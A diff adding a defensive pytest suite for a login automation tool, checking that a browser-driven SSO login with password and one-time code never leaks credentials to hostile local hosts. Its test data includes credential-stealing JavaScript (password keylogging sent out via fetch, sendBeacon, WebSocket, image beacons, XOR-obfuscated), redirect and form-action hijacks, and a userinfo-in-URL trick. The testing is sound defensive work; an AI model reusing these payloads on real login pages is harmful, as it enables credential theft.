@@ -1,0 +1,300 @@
+"""A login led astray, in every shape that was thought of: nothing leaves, nothing is kept, the account stops.
+
+Through the real portal, with a real browser, against hosts that say and do what they like. No host but the login's is
+ever told user name, password or code.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import re
+from collections.abc import AsyncIterator
+
+import pytest
+import pytest_asyncio
+from aiohttp import web
+
+from errors import LoginDiverted, SiteError
+from model import Credentials
+from otp_extractor import parse
+from portal.access import SiteAccess
+from portal.session import Portal
+from portal.state import SessionStore
+from tests.hostile import Host, serving, to
+from tests.sites import OTP_URL, PASSWORD, ROME, Clock, chromium, credentials
+
+HOME = "/sportpolimi"
+TILE = "<title>Home</title><a id=home_btt_booking href=#>Booking</a>"
+ENTER = "<form method=post action='{0}/sso'><button class=green type=submit>Accedi al tuo account</button></form>"
+FIELDS = "<input id=login name=login><input id=password name=password type=password>"
+BUTTON = "<div class=aunicalogin-button-accedi><button {0}>Accedi</button></div>"
+PASSWORD_FORM = f"<title>Servizi Online</title><form method=post action=/password>{FIELDS}{BUTTON.format('')}</form>"
+OTP_FORM = "<form method=post action=/otp><input id=otp name=otp><button id=submit-dissms>Continua</button></form>"
+RETURN = (
+    "<form id=r method=post action='{0}'><input type=hidden name=SAMLResponse value=x></form>"
+    "<script>r.submit()</script>"
+)
+
+Hosts = dict[str, Host]
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def portal(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Portal]:
+    """One driver and one browser for all; where the site is differs from test to test."""
+    access = SiteAccess(
+        base_url="http://127.0.0.1:1",
+        login_hosts=("localhost:1",),
+        state_dir=tmp_path_factory.mktemp("state"),
+        timezone=ROME,
+        executable_path=chromium(),
+        clock=Clock(),
+        timeout_seconds=5.0,
+    )
+    async with Portal(access) as opened:
+        await opened.browser()
+        yield opened
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def hosts() -> AsyncIterator[Hosts]:
+    """All of them honest, until a test makes one otherwise."""
+    async with serving() as running:
+        booking, login = running["booking"], running["login"]
+        booking.pages = {
+            f"{HOME}/Account/Login": ENTER.format(HOME),
+            f"{HOME}/sso": to(f"{login.address}/aunicalogin"),
+            f"{HOME}/acs": to(f"{HOME}/"),
+            f"{HOME}/": TILE,
+        }
+        login.pages = {
+            "/aunicalogin": PASSWORD_FORM,
+            "/password": OTP_FORM,
+            "/otp": RETURN.format(f"{booking.address}{HOME}/acs"),
+        }
+        yield running
+
+
+class Attempt:
+    """One login against those hosts."""
+
+    number = 0
+
+    def __init__(self, portal: Portal, hosts: Hosts) -> None:
+        Attempt.number += 1
+        self.who: Credentials = credentials(Attempt.number, otp_url=OTP_URL + "&period=1")
+        self.hosts = hosts
+        portal.access = dataclasses.replace(
+            portal.access,
+            base_url=hosts["booking"].address + HOME,
+            login_hosts=(hosts["login"].address.removeprefix("http://"),),
+        )
+        self.session = portal.session(self.who)
+        self.store = SessionStore(portal.access.state_dir / "sessions", self.who.user_id, self.who.username)
+        self.evidence = portal.access.state_dir / "evidence"
+
+    async def diverted(self) -> str:
+        """How the error puts it. Asserts that nothing left and nothing was kept."""
+        with pytest.raises(SiteError) as caught:
+            await self.session.renew()
+        assert type(caught.value) is LoginDiverted, caught.value
+        self.kept_to_itself()
+        assert self.store.load() is None
+        assert caught.value.evidence is None
+        assert not list(self.evidence.rglob("*.png"))
+        assert not any(word in str(caught.value) for word in self.secrets)
+        return str(caught.value)
+
+    @property
+    def secrets(self) -> list[str]:
+        password, last = parse(self.who.otp_url), self.store.last_code()
+        return [self.who.password, self.who.username, *([password.code(last)] if last >= 0 else [])]
+
+    def kept_to_itself(self) -> None:
+        for host in self.hosts.values():
+            if host.name != "login":
+                assert not any(host.told(word) for word in self.secrets), host.name
+
+
+@pytest.fixture
+def attempt(portal: Portal, hosts: Hosts) -> Attempt:
+    return Attempt(portal, hosts)
+
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+
+async def test_an_honest_login_goes_through_and_keeps_its_own_cookies_only(attempt: Attempt, hosts: Hosts) -> None:
+    cookie = {"Set-Cookie": "who=me; Path=/", "Content-Type": "text/html"}
+    pixel = f"<img src='{hosts['stranger'].address}/pixel'>"
+    hosts["stranger"].pages["/pixel"] = web.Response(headers=cookie)
+    hosts["login"].pages["/aunicalogin"] = web.Response(text=PASSWORD_FORM + pixel, headers=cookie)
+    hosts["booking"].pages[f"{HOME}/"] = web.Response(text=TILE, headers=cookie)
+    await attempt.session.renew()
+    state = attempt.store.load()
+    assert state is not None
+    assert {each["domain"] for each in state["cookies"]} == {"127.0.0.1", "localhost"}
+    assert hosts["stranger"].received
+    assert hosts["login"].told(f"password={PASSWORD}")
+    attempt.kept_to_itself()
+
+
+async def test_what_another_site_left_in_an_old_session_is_not_taken_up(attempt: Attempt) -> None:
+    cookies = [{"name": "x", "value": "y", "domain": domain, "path": "/"} for domain in ("127.0.0.1", "127.0.0.2")]
+    attempt.store.save({"cookies": cookies, "origins": []})
+    stored = attempt.session._stored()
+    assert stored is not None
+    assert [each["domain"] for each in stored["cookies"]] == ["127.0.0.1"]
+
+
+# ----- the shapes: {stranger}, {login}, {booking} are addresses
+
+BEFORE_THE_PASSWORD = {
+    "the login page redirects elsewhere": ("booking", f"{HOME}/Account/Login", "-> {stranger}/"),
+    "its button is a link elsewhere": (
+        "booking",
+        f"{HOME}/Account/Login",
+        "<a href='{stranger}/?x=1'>Accedi al tuo account</a>",
+    ),
+    "three hops away": ("login", "/aunicalogin", "-> {booking}/hop"),
+    "a script goes elsewhere": ("login", "/aunicalogin", "<script>location = '{stranger}/'</script>"),
+    "another port of the login's machine": ("booking", f"{HOME}/sso", "-> http://localhost:{port}/"),
+    "a name before the address": ("booking", f"{HOME}/sso", "-> http://{login_host}@{stranger_host}/"),
+    "the booking site's own page asks for it": ("booking", f"{HOME}/Account/Login", PASSWORD_FORM),
+    "the booking site's own page asks for it after a detour": ("login", "/aunicalogin", "-> {booking}/asks"),
+    "the form posts elsewhere": ("login", "/aunicalogin", PASSWORD_FORM.replace("/password", "{stranger}/")),
+}
+
+
+def arrange(hosts: Hosts, host: str, path: str, page: str) -> None:
+    """Puts a page, or with an arrow a redirect, on a host; the stranger imitates every page of the login."""
+    stranger = hosts["stranger"]
+    names = {name: each.address for name, each in hosts.items()}
+    names |= {f"{name}_host": each.address.removeprefix("http://") for name, each in hosts.items()}
+    names["port"] = stranger.address.rpartition(":")[2]
+    for name, value in names.items():
+        page = page.replace(f"{{{name}}}", value)
+    status, arrow, target = page.partition("-> ")
+    hosts[host].pages[path] = to(target, int(status or 302)) if arrow else page
+    hosts["booking"].pages |= {"/hop": to(stranger.address + "/"), "/asks": PASSWORD_FORM, "/code": OTP_FORM}
+    stranger.pages["/"] = PASSWORD_FORM + OTP_FORM + TILE
+
+
+@pytest.mark.parametrize("shape", BEFORE_THE_PASSWORD)
+async def test_nothing_is_typed_where_it_does_not_belong(attempt: Attempt, hosts: Hosts, shape: str) -> None:
+    arrange(hosts, *BEFORE_THE_PASSWORD[shape])
+    said = await attempt.diverted()
+    assert re.search(r"http://[\w.]+:\d+/|data:|javascript:", said)
+    assert "?" not in said
+    assert hosts["stranger"].received == []
+    assert not hosts["login"].told(PASSWORD)
+
+
+AFTER_THE_PASSWORD = {
+    "the form turns elsewhere as it is sent": PASSWORD_FORM.replace("<form ", "<form onsubmit='action=`{stranger}/`' "),
+    "the form would put it in an address": PASSWORD_FORM.replace("method=post", "method=get"),
+    "307": PASSWORD_FORM.replace("/password", "/307"),
+    "308 to the booking site": PASSWORD_FORM.replace("/password", "/308"),
+    "307 at the third hop": PASSWORD_FORM.replace("/password", "/again"),
+    "307 in a frame": "<iframe name=inside></iframe>"
+    + PASSWORD_FORM.replace("<form ", "<form onsubmit='target=`inside`' ").replace("/password", "/307"),
+    "307 in a new window": PASSWORD_FORM.replace("<form ", "<form onsubmit='target=`_blank`' ").replace(
+        "/password", "/307"
+    ),
+    "a script's requests": """{script:
+      const body = new Blob([JSON.stringify({p})])
+      fetch(`/307`, {method: `POST`, body: `p=${p}`, mode})
+      fetch(`/308`, {method: `POST`, body: p, mode, keepalive: true})
+      fetch(`{booking}/x`, {method: `POST`, body: p, mode})
+      fetch(`{booking}/x`, {method: `POST`, body, mode})
+      fetch(`{booking}/x?d=${btoa(`x:${p}`)}`, {mode})
+      navigator.sendBeacon(`/307`, p)
+      navigator.sendBeacon(`{booking}/x`, new URLSearchParams({p}))
+      new Image().src = `{booking}/x?p=${encodeURIComponent(p)}`
+      const frame = document.createElement(`iframe`)
+      frame.src = `{booking}/x?p=${escape(p)}`
+      document.body.append(frame)
+    }""",
+    "a script goes to the booking site": "{script:location = `{booking}/x?p=${p}`}",
+}
+SCRIPT = """<script>const mode = `no-cors`
+password.addEventListener("input", () => {{ const p = password.value; {0} }})</script>"""
+
+
+def scripted(page: str) -> str:
+    """A password page with a script that sees what is typed."""
+    head, found, rest = page.partition("{script:")
+    return PASSWORD_FORM + SCRIPT.format(rest.removesuffix("}")) if found else head
+
+
+@pytest.mark.parametrize("shape", AFTER_THE_PASSWORD)
+async def test_what_was_typed_is_stopped_on_its_way(attempt: Attempt, hosts: Hosts, shape: str) -> None:
+    hosts["login"].pages |= {
+        "/307": to(hosts["stranger"].address + "/", 307),
+        "/308": to(hosts["booking"].address + "/x", 308),
+        "/again": to("/307", 307),
+    }
+    arrange(hosts, "login", "/aunicalogin", scripted(AFTER_THE_PASSWORD[shape]))
+    await attempt.diverted()
+    assert not any(PASSWORD in request.partition("\n")[0] for request in hosts["login"].received)
+
+
+TO_A_STRANGER = """{script:
+  const ignored = work => { try { work() } catch (error) { console.log(error) } }
+  const hidden = [...p].map(letter => letter.charCodeAt() ^ 7)
+  const frame = document.createElement(`iframe`), link = document.createElement(`a`)
+  document.body.append(frame)
+  link.href = `#`
+  link.ping = `{stranger}/?h=${hidden}`
+  ignored(() => link.click())
+  ignored(() => fetch(`{stranger}/?h=${hidden}`, {mode}))
+  ignored(() => fetch(`{stranger}/?u=${login.value}`, {mode}))
+  ignored(() => navigator.sendBeacon(`{stranger}/`, `${hidden}`))
+  ignored(() => new Image().src = `{stranger}/?h=${hidden}`)
+  ignored(() => new WebSocket(`ws://{stranger_host}/?h=${hidden}`))
+  ignored(() => new frame.contentWindow.WebSocket(`ws://{stranger_host}/?h=${hidden}`))
+  ignored(() => new Worker(URL.createObjectURL(new Blob([`fetch('{stranger}/?h=${hidden}')`]))))
+  ignored(() => open(`{stranger}/?h=${hidden}`))
+  document.body.style.background = `url({stranger}/?h=${hidden})`
+  document.head.insertAdjacentHTML(`beforeend`, `<link rel=prefetch href="{stranger}/?h=${hidden}">`)
+}"""
+
+
+async def test_once_something_is_typed_nothing_reaches_a_stranger_however_it_is_hidden(
+    attempt: Attempt, hosts: Hosts
+) -> None:
+    arrange(hosts, "login", "/aunicalogin", scripted(TO_A_STRANGER))
+    await attempt.session.renew()
+    attempt.kept_to_itself()
+    assert hosts["stranger"].received == []
+
+
+AT_THE_CODE = {
+    "the code page is elsewhere, three hops away": ("login", "/password", "-> {booking}/hop"),
+    "the code page is the booking site's": ("login", "/password", "-> {booking}/code"),
+    "the code's form posts elsewhere": ("login", "/password", OTP_FORM.replace("/otp", "{stranger}/")),
+    "the code is passed on": ("login", "/otp", "307-> {stranger}/"),
+    "the password is asked for again by the booking site": ("login", "/password", "-> {booking}/asks"),
+    "the end is elsewhere, three hops away": ("login", "/otp", "-> {booking}/hop"),
+    "a form that sends itself elsewhere": ("login", "/otp", RETURN.format("{stranger}/")),
+    "the login host says it is the end": ("login", "/otp", TILE),
+    "another site of the booking site's host says it is the end": ("login", "/otp", "-> {booking}/another/"),
+}
+
+
+@pytest.mark.parametrize("shape", AT_THE_CODE)
+async def test_the_code_and_the_end_are_where_they_should_be(attempt: Attempt, hosts: Hosts, shape: str) -> None:
+    arrange(hosts, *AT_THE_CODE[shape])
+    hosts["booking"].pages["/another/"] = TILE
+    await attempt.diverted()
+    assert hosts["stranger"].received == []
+
+
+async def test_who_waited_for_a_login_that_was_led_astray_does_not_try_it(attempt: Attempt, hosts: Hosts) -> None:
+    arrange(hosts, "booking", f"{HOME}/Account/Login", "-> {stranger}/")
+    await attempt.diverted()
+    hosts["booking"].received.clear()
+    with pytest.raises(LoginDiverted, match=hosts["stranger"].address):
+        await attempt.session.renew()
+    stop = attempt.store.turned_away_since(0)
+    assert isinstance(stop, LoginDiverted)
+    assert hosts["booking"].received == []
